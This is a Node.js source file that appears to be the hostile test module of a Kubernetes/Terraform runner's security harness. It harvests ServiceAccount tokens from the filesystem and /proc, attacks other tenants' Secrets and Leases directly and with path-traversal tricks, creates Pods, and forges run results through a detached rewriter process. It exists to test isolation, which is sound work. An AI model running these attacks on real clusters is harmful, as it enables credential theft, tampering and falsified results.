"use strict";
// The hostile module's attacks: what module code tries against the Job it runs in. Run with the
// node every Job has (`/captf/bin/node attack.cjs <phase>`) by the module's provisioners and by the
// image's /captf/runtime wrapper before each step. Node built-ins only; never fails the step.
//
// Every attempt is reported as { phase, attempt, via, target, outcome, detail }:
//   via      filesystem | environment | direct (the API server, in-cluster settings) | broker (with its per-run token)
//   outcome  refused (denied, or nothing found) | succeeded | error (the attempt could not be made)
// `control` attempts are this object's own state through the broker: they must succeed, proving the
// broker channel the refusals went through was live. `observed` attempts (result forgery) are
// decided by whoever reads the manager's record, not here.
//
// Inputs (environment): HOSTILE_TARGETS (JSON, see README), HOSTILE_REPORT_URL (POSTed each phase's
// report), HOSTILE_REPORT_FILE (a local-state file with the report as output `attempts_json`).
// Token values never leave this process: only where one was found and whose it is.
const fs = require("node:fs");
const path = require("node:path");
const http = require("node:http");
const https = require("node:https");
const { gzipSync } = require("node:zlib");
const { spawn } = require("node:child_process");

const serviceAccountTokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token";
// Tests on a host point these elsewhere; a Job never sets them.
const brokerKubeconfigPath = process.env.HOSTILE_BROKER_KUBECONFIG || "/captf/broker/kubeconfig";
const terminationLog = process.env.HOSTILE_TERMINATION_LOG || "/dev/termination-log";
const scanRoots = process.env.HOSTILE_SCAN_ROOTS
  ? process.env.HOSTILE_SCAN_ROOTS.split(":")
  : ["/var/run", "/run", "/captf", "/tmp", "/etc"];
/** Bounds of the filesystem scan: module code has minutes, not hours. */
const scanLimits = { files: 20000, bytes: 256 * 1024, depth: 12 };
const requestTimeoutMs = 5000;
/** The forged result's marker: a step of 4242.042 s that no real run takes. */
const forgedSeconds = 4242.042;
const jwtPattern = /eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}/g;

// ---------------------------------------------------------------- helpers

function readTargets() {
  let targets = {};
  try {
    const parsed = JSON.parse(process.env.HOSTILE_TARGETS || "{}");
    if (parsed && typeof parsed === "object") targets = parsed;
  } catch {
    // No targets: the attempts that need them report an error.
  }
  return { ...targets, self: targets.self ?? selfFromRunner() };
}

/** This object's name and state suffix, read from the runner's command line (any process may read it). */
function selfFromRunner() {
  for (const pid of visiblePids()) {
    const args = (readSmall(`/proc/${pid}/cmdline`) ?? "").split("\0");
    const suffix = args.find((arg) => arg.startsWith("--backend-config=secret_suffix="));
    if (!suffix) continue;
    const object = args.find((arg) => arg.startsWith("--event-object="))?.split("/");
    return {
      stateSuffix: suffix.slice("--backend-config=secret_suffix=".length),
      ...(object ? { name: object.at(-2), uid: object.at(-1) } : {}),
    };
  }
  return undefined;
}

/** The claims of a JWT-shaped string, or undefined. */
function jwtClaims(token) {
  try {
    return JSON.parse(Buffer.from(token.split(".")[1], "base64url").toString("utf8"));
  } catch {
    return undefined;
  }
}

/** A Kubernetes ServiceAccount token: a JWT whose subject is a ServiceAccount or whose claims are Kubernetes'. */
function isServiceAccountToken(token) {
  const claims = jwtClaims(token);
  if (!claims || typeof claims !== "object") return false;
  return (
    String(claims.sub ?? "").startsWith("system:serviceaccount:") ||
    "kubernetes.io" in claims ||
    String(claims.iss ?? "").includes("kubernetes")
  );
}

/** ServiceAccount tokens in a text, as "whose" descriptions (the subject), never the token. */
function serviceAccountTokensIn(text) {
  const found = [];
  for (const match of text.matchAll(jwtPattern))
    if (isServiceAccountToken(match[0])) found.push({ token: match[0], sub: String(jwtClaims(match[0]).sub ?? "?") });
  return found;
}

function readSmall(file) {
  try {
    const stat = fs.statSync(file);
    if (!stat.isFile() || stat.size > scanLimits.bytes) return undefined;
    return fs.readFileSync(file, "utf8");
  } catch {
    return undefined;
  }
}

/** Every regular file under `root` (no /proc, /sys, /dev), within the scan's limits. */
function* filesUnder(root, budget, depth = 0) {
  let entries;
  try {
    entries = fs.readdirSync(root, { withFileTypes: true });
  } catch {
    return;
  }
  for (const entry of entries) {
    if (budget.files <= 0) return;
    const full = path.join(root, entry.name);
    if (/^\/(proc|sys|dev)(\/|$)/.test(full)) continue;
    if (entry.isDirectory() && depth < scanLimits.depth) yield* filesUnder(full, budget, depth + 1);
    else if (entry.isFile() || entry.isSymbolicLink()) {
      budget.files--;
      yield full;
    }
  }
}

/** This program and the wrapper that runs it: they spell out what they look for. */
const ownFiles = new Set([__filename, "/captf/runtime"]);

/** A kubeconfig (JSON or YAML) that carries a credential: a token, a client key or an exec plugin. */
function looksLikeKubeconfigWithCredentials(text) {
  return (
    /kind"?\s*:\s*"?Config\b/.test(text) && /clusters/.test(text) && /client-key-data|"token"\s*:|^\s*token:\s*\S|"?exec"?\s*:/m.test(text)
  );
}

/** Pids this process can see in /proc. */
function visiblePids() {
  try {
    return fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name));
  } catch {
    return [];
  }
}

/**
 * The broker's server and per-run credential from the kubeconfig it wrote for this Job, or why not:
 * the token is the server URL's first path segment (a bearer token, if the kubeconfig has one, too).
 */
function brokerEndpoint() {
  try {
    const config = JSON.parse(fs.readFileSync(brokerKubeconfigPath, "utf8"));
    const server = config.clusters?.[0]?.cluster?.server;
    const bearer = config.users?.[0]?.user?.token;
    const inPath = server ? new URL(server).pathname.replace(/^\/+|\/+$/g, "") : "";
    if (!server || !(bearer || inPath)) return { problem: `${brokerKubeconfigPath} names no server with a token` };
    return {
      server,
      token: bearer,
      found: true,
      where: `port ${new URL(server).port}${inPath ? ", the token in the URL's path" : ""}${bearer ? ", a bearer token" : ""}`,
    };
  } catch (error) {
    return { problem: `${brokerKubeconfigPath}: ${error.code ?? error.message}` };
  }
}

/** The API server's in-cluster address: the environment, else PID 1's (the runner may pass on less). */
function inClusterServer() {
  let env = process.env;
  if (!env.KUBERNETES_SERVICE_HOST) {
    try {
      env = Object.fromEntries(
        fs
          .readFileSync("/proc/1/environ", "utf8")
          .split("\0")
          .filter(Boolean)
          .map((line) => [line.slice(0, line.indexOf("=")), line.slice(line.indexOf("=") + 1)]),
      );
    } catch {
      return undefined;
    }
  }
  const host = env.KUBERNETES_SERVICE_HOST;
  if (!host) return undefined;
  return `https://${host.includes(":") ? `[${host}]` : host}:${env.KUBERNETES_SERVICE_PORT || "443"}`;
}

/** One HTTP request; resolves { status, body } or { error }. TLS is not verified: module code would not. */
function send(server, method, requestPath, { token, body } = {}) {
  return new Promise((resolve) => {
    let url;
    try {
      url = new URL(server);
    } catch (error) {
      resolve({ error: error.message });
      return;
    }
    const client = url.protocol === "https:" ? https : http;
    const payload = body === undefined ? undefined : Buffer.from(JSON.stringify(body));
    const headers = { accept: "application/json" };
    if (token) headers.authorization = `Bearer ${token}`;
    if (payload) Object.assign(headers, { "content-type": "application/json", "content-length": payload.length });
    // The raw path after the server's own (the broker's carries its token), so dot segments and encodings reach it as written.
    const prefix = new URL(server).pathname.replace(/\/+$/, "");
    const options = {
      method,
      host: url.hostname,
      port: url.port,
      path: `${prefix}${requestPath}`,
      headers,
      timeout: requestTimeoutMs,
      rejectUnauthorized: false,
    };
    const req = client.request(options, (res) => {
      const chunks = [];
      res.on("data", (chunk) => chunks.push(chunk));
      res.on("end", () => resolve({ status: res.statusCode, body: Buffer.concat(chunks).toString("utf8") }));
      res.on("error", (error) => resolve({ error: error.message }));
    });
    req.on("timeout", () => req.destroy(new Error(`no answer within ${requestTimeoutMs} ms`)));
    req.on("error", (error) => resolve({ error: error.message }));
    req.end(payload);
  });
}

/** refused on 401/403; any other answer from the API server passed authorization: succeeded. */
function outcomeOfAnswer(answer, listed) {
  if (answer.error) return { outcome: "error", detail: answer.error };
  const message = (() => {
    try {
      return JSON.parse(answer.body).message ?? "";
    } catch {
      return "";
    }
  })();
  if (answer.status === 401 || answer.status === 403) return { outcome: "refused", detail: `${answer.status} ${message}`.slice(0, 200) };
  if (answer.status >= 500) return { outcome: "error", detail: `${answer.status} ${message}`.slice(0, 200) };
  if (listed !== undefined) {
    // A list answered: it reached the target only if the target is in it.
    let names = [];
    try {
      names = (JSON.parse(answer.body).items ?? []).map((item) => item.metadata?.name);
    } catch {
      return { outcome: "error", detail: `${answer.status}, not a JSON list` };
    }
    return names.includes(listed)
      ? { outcome: "succeeded", detail: `${answer.status}: the list holds ${listed}` }
      : { outcome: "refused", detail: `${answer.status}: the list (${names.length} items) does not hold ${listed}` };
  }
  return { outcome: "succeeded", detail: `${answer.status}: passed authorization ${message}`.slice(0, 200) };
}

// ---------------------------------------------------------------- credential search (filesystem, environment)

function credentialAttempts() {
  const attempts = [];
  const add = (attempt, via, target, outcome, detail) => attempts.push({ attempt, via, target, outcome, detail });
  const summarize = (found) =>
    found
      .map((entry) => `${entry.where} (${entry.sub})`)
      .join(", ")
      .slice(0, 300);

  // The usual token path.
  const atTokenPath = [];
  try {
    const text = fs.readFileSync(serviceAccountTokenPath, "utf8");
    atTokenPath.push({ where: serviceAccountTokenPath, token: text.trim(), sub: String(jwtClaims(text.trim())?.sub ?? "?") });
    add(
      "read the ServiceAccount token path",
      "filesystem",
      "service-account-token",
      "succeeded",
      `${serviceAccountTokenPath}: ${text.length} bytes`,
    );
  } catch (error) {
    add(
      "read the ServiceAccount token path",
      "filesystem",
      "service-account-token",
      "refused",
      `${serviceAccountTokenPath}: ${error.code ?? error.message}`,
    );
  }

  // Every readable file under the usual directories.
  const budget = { files: scanLimits.files };
  const found = [];
  let scanned = 0;
  for (const root of scanRoots) {
    for (const file of filesUnder(root, budget)) {
      const text = readSmall(file);
      if (text === undefined) continue;
      scanned++;
      for (const token of serviceAccountTokensIn(text)) found.push({ where: file, ...token });
      if (file !== brokerKubeconfigPath && !ownFiles.has(file) && looksLikeKubeconfigWithCredentials(text)) {
        found.push({ where: file, sub: "a kubeconfig with credentials" });
      }
    }
  }
  add(
    `scan ${scanRoots.join(", ")} for ServiceAccount tokens and kubeconfigs`,
    "filesystem",
    "service-account-token",
    found.length ? "succeeded" : "refused",
    found.length ? summarize(found) : `${scanned} readable files, none holds one`,
  );
  const broker = brokerEndpoint();
  add(
    "find the broker's per-run token",
    "filesystem",
    "broker-token",
    broker.found ? "succeeded" : "refused",
    broker.found ? `${brokerKubeconfigPath} (expected: valid only at this Job's broker, ${broker.where})` : broker.problem,
  );

  // Other processes' environment, command lines and roots.
  const pids = visiblePids().filter((pid) => Number(pid) !== process.pid);
  const fromProcesses = [];
  for (const pid of pids) {
    for (const file of ["environ", "cmdline"]) {
      const text = readSmall(`/proc/${pid}/${file}`);
      if (text)
        for (const token of serviceAccountTokensIn(text.replace(/\0/g, "\n")))
          fromProcesses.push({ where: `/proc/${pid}/${file}`, ...token });
    }
  }
  add(
    `read /proc/*/environ and cmdline of ${pids.length} other processes`,
    "environment",
    "service-account-token",
    fromProcesses.length ? "succeeded" : "refused",
    fromProcesses.length ? summarize(fromProcesses) : `${pids.length} processes, none holds one`,
  );

  const rooted = [];
  for (const pid of pids) {
    for (const relative of [serviceAccountTokenPath, "/run/secrets/kubernetes.io/serviceaccount/token"]) {
      const text = readSmall(`/proc/${pid}/root${relative}`);
      if (text) for (const token of serviceAccountTokensIn(text)) rooted.push({ where: `/proc/${pid}/root${relative}`, ...token });
    }
  }
  add(
    `read the token path through /proc/*/root of ${pids.length} other processes`,
    "filesystem",
    "service-account-token",
    rooted.length ? "succeeded" : "refused",
    rooted.length ? summarize(rooted) : "none holds one",
  );

  const own = Object.entries(process.env).flatMap(([name, value]) =>
    serviceAccountTokensIn(String(value)).map((token) => ({ where: `$${name}`, ...token })),
  );
  add(
    "look for a token in this process's environment",
    "environment",
    "service-account-token",
    own.length ? "succeeded" : "refused",
    own.length ? summarize(own) : `${Object.keys(process.env).length} variables, none holds one`,
  );

  // What the API attempts use directly: a token found anywhere, held in memory only.
  const stolen = [...atTokenPath, ...found, ...fromProcesses, ...rooted, ...own].find((entry) => entry.token)?.token;
  return { attempts, stolen };
}

// ---------------------------------------------------------------- the API attempts, direct and through the broker

/** The API attempts against the targets: each `{ attempt, target, method, path, body?, listed? }`. */
function apiAttemptTable(targets, phase) {
  const ns = targets.namespace;
  const victim = targets.victim ?? {};
  const victimState = victim.stateSuffix ? `tfstate-default-${victim.stateSuffix}` : undefined;
  const victimLock = victim.stateSuffix ? `lock-tfstate-default-${victim.stateSuffix}` : undefined;
  const secrets = `/api/v1/namespaces/${ns}/secrets`;
  const leases = `/apis/coordination.k8s.io/v1/namespaces/${ns}/leases`;
  const unique = `hostile-${phase.replace(/[^a-z0-9]/g, "")}-${process.pid}-${Date.now().toString(36)}`;
  const forgedState = gzipSync(JSON.stringify({ version: 4, serial: 999, lineage: "hostile", outputs: {}, resources: [] })).toString(
    "base64",
  );
  const table = [];
  const readable = [
    ["kubeconfig-secret", targets.cluster && `${targets.cluster}-kubeconfig`],
    ["ca-secret", targets.cluster && `${targets.cluster}-ca`],
    ["victim-state", victimState],
    ["victim-run-secret", targets.victimRunSecret],
    ["credential-mirror", targets.credentialMirror],
  ];
  for (const [target, name] of readable) {
    if (!name) continue;
    table.push({ attempt: `get Secret ${name}`, target, method: "GET", path: `${secrets}/${name}` });
    table.push({ attempt: `list Secrets for ${name}`, target, method: "GET", path: secrets, listed: name });
    table.push({
      attempt: `list Secrets labelled tfstate=true for ${name}`,
      target,
      method: "GET",
      path: `${secrets}?labelSelector=tfstate%3Dtrue`,
      listed: name,
    });
  }
  if (victimState) {
    const body = { apiVersion: "v1", kind: "Secret", metadata: { name: victimState, namespace: ns }, data: { tfstate: forgedState } };
    table.push({ attempt: `replace (PUT) ${victimState}`, target: "victim-state", method: "PUT", path: `${secrets}/${victimState}`, body });
    table.push({ attempt: `delete ${victimState}`, target: "victim-state", method: "DELETE", path: `${secrets}/${victimState}` });
    table.push({ attempt: `create a Secret named ${victimState}`, target: "victim-state", method: "POST", path: secrets, body });
    // Path tricks: a broker matching names loosely would let these through.
    if (targets.self?.stateSuffix) {
      const own = `tfstate-default-${targets.self.stateSuffix}`;
      table.push({
        attempt: `PUT ${victimState}'s body at own state's path`,
        target: "victim-state",
        method: "PUT",
        path: `${secrets}/${own}`,
        body,
      });
      table.push({
        attempt: `get ${victimState} through a dot segment after own state`,
        target: "victim-state",
        method: "GET",
        path: `${secrets}/${own}/../${victimState}`,
      });
      table.push({
        attempt: `get ${victimState} with an encoded slash`,
        target: "victim-state",
        method: "GET",
        path: `${secrets}/${own}%2F..%2F${victimState}`,
      });
      table.push({
        attempt: `get ${victimState} as a part of own state`,
        target: "victim-state",
        method: "GET",
        path: `${secrets}/${own}-part-0/../../secrets/${victimState}`,
      });
    }
  }
  if (victimLock) {
    const lease = {
      apiVersion: "coordination.k8s.io/v1",
      kind: "Lease",
      metadata: { name: victimLock, namespace: ns },
      spec: { holderIdentity: "hostile-module" },
    };
    table.push({
      attempt: `replace (PUT) Lease ${victimLock}`,
      target: "victim-lock",
      method: "PUT",
      path: `${leases}/${victimLock}`,
      body: lease,
    });
    table.push({ attempt: `delete Lease ${victimLock}`, target: "victim-lock", method: "DELETE", path: `${leases}/${victimLock}` });
    table.push({ attempt: `create a Lease named ${victimLock}`, target: "victim-lock", method: "POST", path: leases, body: lease });
  }
  // An image no registry serves: were the create allowed, the Pod would never run.
  const container = { name: "hostile", image: "127.0.0.1:1/hostile:never", command: ["/hostile"] };
  table.push({
    attempt: `create Pod ${unique}`,
    target: "pod",
    method: "POST",
    path: `/api/v1/namespaces/${ns}/pods`,
    body: {
      apiVersion: "v1",
      kind: "Pod",
      metadata: { name: unique, namespace: ns },
      spec: { containers: [container], restartPolicy: "Never" },
    },
  });
  table.push({
    attempt: `create Job ${unique}`,
    target: "job",
    method: "POST",
    path: `/apis/batch/v1/namespaces/${ns}/jobs`,
    body: {
      apiVersion: "batch/v1",
      kind: "Job",
      metadata: { name: unique, namespace: ns },
      spec: { template: { spec: { containers: [container], restartPolicy: "Never" } } },
    },
  });
  if (victim.name) {
    const regarding = {
      apiVersion: victim.apiVersion ?? "infrastructure.cluster.x-k8s.io/v1alpha1",
      kind: victim.kind ?? "TerraformMachine",
      namespace: ns,
      name: victim.name,
      uid: victim.uid,
    };
    const eventTime = new Date().toISOString().replace(/\.(\d{3})Z$/, ".$1000Z");
    table.push({
      attempt: `post an event about ${regarding.kind} ${victim.name}`,
      target: "victim-event",
      method: "POST",
      path: `/apis/events.k8s.io/v1/namespaces/${ns}/events`,
      body: {
        apiVersion: "events.k8s.io/v1",
        kind: "Event",
        metadata: { name: `${unique}.event`, namespace: ns },
        eventTime,
        reportingController: "captf.io/runner",
        reportingInstance: unique,
        action: "Apply",
        reason: "Applied",
        type: "Normal",
        regarding,
        note: "hostile module: forged",
      },
    });
  }
  return table;
}

async function apiAttempts(targets, phase, stolenToken) {
  const attempts = [];
  if (!targets.namespace) {
    attempts.push({
      attempt: "reach the API server",
      via: "direct",
      target: "api",
      outcome: "error",
      detail: "no targets given (HOSTILE_TARGETS)",
    });
    return attempts;
  }
  const table = apiAttemptTable(targets, phase);
  const direct = inClusterServer();
  const broker = brokerEndpoint();
  const channels = [
    { via: "direct", server: direct, token: stolenToken, missing: "no KUBERNETES_SERVICE_HOST in this process's or PID 1's environment" },
    { via: "broker", server: broker.server, token: broker.token, missing: `no broker to use: ${broker.problem}` },
  ];
  for (const channel of channels) {
    for (const entry of table) {
      if (!channel.server) {
        attempts.push({ attempt: entry.attempt, via: channel.via, target: entry.target, outcome: "error", detail: channel.missing });
        continue;
      }
      const answer = await send(channel.server, entry.method, entry.path, { token: channel.token, body: entry.body });
      attempts.push({
        attempt: entry.attempt,
        via: channel.via,
        target: entry.target,
        ...outcomeOfAnswer(answer, entry.listed),
        ...(channel.token && channel.via === "direct" ? { with: "a stolen ServiceAccount token" } : {}),
      });
    }
  }
  // The control: this object's own state through the broker must answer (200, or 404 before the first apply).
  const control = { attempt: "get own state Secret (control)", via: "broker", target: "own-state", control: true };
  if (!broker.found || !targets.self?.stateSuffix) {
    attempts.push({
      ...control,
      outcome: "error",
      detail: broker.problem ?? "this object's state suffix is not on the runner's command line",
    });
  } else {
    const answer = await send(
      broker.server,
      "GET",
      `/api/v1/namespaces/${targets.namespace}/secrets/tfstate-default-${targets.self.stateSuffix}`,
      { token: broker.token },
    );
    const reached = answer.status === 200 || answer.status === 404;
    attempts.push({
      ...control,
      outcome: reached ? "succeeded" : answer.error ? "error" : "refused",
      detail: answer.error ?? String(answer.status),
    });
  }
  return attempts;
}

// ---------------------------------------------------------------- result forgery

function forgedResult(targets) {
  const hash = `p1:${"f0".repeat(32)}`;
  return JSON.stringify({
    version: 1,
    op: "apply",
    image: { ref: "forged-by-hostile-module", providersMirror: false },
    runtime: { command: ["/captf/runtime"], version: "0.0.0-forged" },
    steps: [{ name: "apply", exit: 0, seconds: forgedSeconds }],
    drift: null,
    error: null,
    changes: { add: 42, change: 0, destroy: 0 },
    plan: { hash, add: 42, change: 0, destroy: 0, resources: [`forged.${targets.self?.name ?? "result"} (create)`], truncated: false },
  });
}

/** Writes the forged result now, and leaves a process behind that writes it again over the runner's own. */
function forgeryAttempts(targets) {
  const document = forgedResult(targets);
  const attempts = [];
  try {
    fs.writeFileSync(terminationLog, document);
    attempts.push({
      attempt: "write a forged result to /dev/termination-log during apply",
      via: "filesystem",
      target: "result",
      observed: true,
      outcome: "error",
      detail: "written; whether the manager recorded it is read from its status",
    });
  } catch (error) {
    attempts.push({
      attempt: "write a forged result to /dev/termination-log during apply",
      via: "filesystem",
      target: "result",
      observed: true,
      outcome: "refused",
      detail: error.code ?? error.message,
    });
  }
  try {
    const child = spawn(process.execPath, [__filename, "--late-writer"], {
      detached: true,
      stdio: "ignore",
      env: { HOSTILE_FORGED: document, HOSTILE_TERMINATION_LOG: terminationLog },
    });
    child.unref();
    attempts.push({
      attempt: "rewrite the forged result after the runner's own write",
      via: "filesystem",
      target: "result",
      observed: true,
      outcome: "error",
      detail: `writer pid ${child.pid} left running`,
    });
  } catch (error) {
    attempts.push({
      attempt: "rewrite the forged result after the runner's own write",
      via: "filesystem",
      target: "result",
      observed: true,
      outcome: "refused",
      detail: error.message,
    });
  }
  return attempts;
}

/** Replaces a file's content without ever creating it (r+), so a removed file stays removed. */
function rewrite(file, text) {
  const fd = fs.openSync(file, "r+");
  try {
    fs.ftruncateSync(fd);
    fs.writeSync(fd, text, 0);
  } finally {
    fs.closeSync(fd);
  }
}

/** The process left behind: puts the forged result back whenever the file holds anything else, until killed or the file is gone. */
function lateWriter() {
  const document = process.env.HOSTILE_FORGED;
  const until = Date.now() + 30 * 60_000;
  const timer = setInterval(() => {
    try {
      if (Date.now() > until) throw Object.assign(new Error("done"), { code: "ENOENT" });
      if (fs.readFileSync(terminationLog, "utf8") !== document) rewrite(terminationLog, document);
    } catch (error) {
      // The container ends the writer; on a host, a test removing the file does.
      if (error.code === "ENOENT") clearInterval(timer);
    }
  }, 1);
}

// ---------------------------------------------------------------- reporting

/** A local state whose output `attempts_json` is the report: the module reads it back as its output. */
function writeReportState(file, report) {
  if (!file) return;
  const state = {
    version: 4,
    terraform_version: "1.5.7",
    serial: 1,
    lineage: "hostile-module-report",
    outputs: { attempts_json: { value: JSON.stringify(report.attempts), type: "string" } },
    resources: [],
  };
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, JSON.stringify(state));
}

async function postReport(url, report) {
  if (!url) return;
  const target = new URL(url);
  await send(target.origin, "POST", target.pathname + target.search, { body: report });
}

async function attack(phase) {
  const targets = readTargets();
  const started = Date.now();
  const { attempts: found, stolen } = credentialAttempts();
  const api = await apiAttempts(targets, phase, stolen);
  const forged = phase === "provisioner-apply" ? forgeryAttempts(targets) : [];
  const attempts = [...found, ...api, ...forged].map((entry) => ({ phase, ...entry }));
  const report = {
    phase,
    object: targets.self?.name ?? null,
    pod: process.env.POD_NAME ?? null,
    pid: process.pid,
    seconds: (Date.now() - started) / 1000,
    attempts,
  };
  return report;
}

/** Runs every attempt of one phase and reports them (file, URL, a line on stderr); never throws. */
async function runPhase(phase) {
  try {
    const report = await attack(phase);
    try {
      writeReportState(process.env.HOSTILE_REPORT_FILE, report);
    } catch (error) {
      process.stderr.write(`hostile module: cannot write ${process.env.HOSTILE_REPORT_FILE}: ${error.message}\n`);
    }
    await postReport(process.env.HOSTILE_REPORT_URL, report);
    const succeeded = report.attempts.filter((entry) => entry.outcome === "succeeded" && !entry.control && entry.target !== "broker-token");
    const which = succeeded.map((entry) => `\n  succeeded: ${entry.via} ${entry.target}: ${entry.attempt}: ${entry.detail}`).join("");
    process.stderr.write(`hostile module: ${phase}: ${report.attempts.length} attempts, ${succeeded.length} succeeded${which}\n`);
  } catch (error) {
    // Never fail the step: the hostile object's own run must go on.
    process.stderr.write(`hostile module: ${phase}: ${error && error.stack ? error.stack : error}\n`);
  }
}

if (require.main === module) {
  if (process.argv[2] === "--late-writer") lateWriter();
  else runPhase(String(process.argv[2] || "unknown")).catch(() => undefined);
}

module.exports = { runPhase, attack, apiAttemptTable, isServiceAccountToken, outcomeOfAnswer, forgedSeconds };
